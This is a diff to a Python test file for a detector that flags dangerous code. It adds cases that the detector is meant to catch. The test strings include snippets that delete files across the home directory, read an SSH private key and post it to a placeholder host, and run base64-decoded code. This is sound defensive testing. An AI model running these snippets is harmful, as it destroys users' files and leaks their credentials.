@@ -58,13 +58,17 @@ def test_files_and_downloads_are_data(source: str, needed: str) -> None:
         "shutil.rmtree(os.path.expanduser('~/work'))",
         "open(os.path.expanduser('~/.ssh/id_rsa')).read()\nurllib.request.urlopen('http://x', data=b'')",
         "exec(base64.b64decode('eA=='))",
+        "tops = [Path.home() / 'work']\nfor top in tops:\n    for path in top.rglob('*'):\n        path.unlink()",
+        "for folder, _, files in os.walk(os.path.expanduser('~')):\n    for name in files:\n        os.remove(name)",
     ],
 )
 def test_what_attacks_the_machine_is_told(source: str) -> None:
     assert needs.dangers(ast.parse(source))
 
 
-@pytest.mark.parametrize("source", ["pid = os.fork()", "shutil.rmtree('out')", "subprocess.run(['gcc', '--version'])"])
+@pytest.mark.parametrize(
+    "source", ["pid = os.fork()", "shutil.rmtree('out')", "items.remove(3)", "subprocess.run(['gcc', '--version'])"]
+)
 def test_what_bug_reports_do_is_no_attack(source: str) -> None:
     assert needs.dangers(ast.parse(source)) == []
 
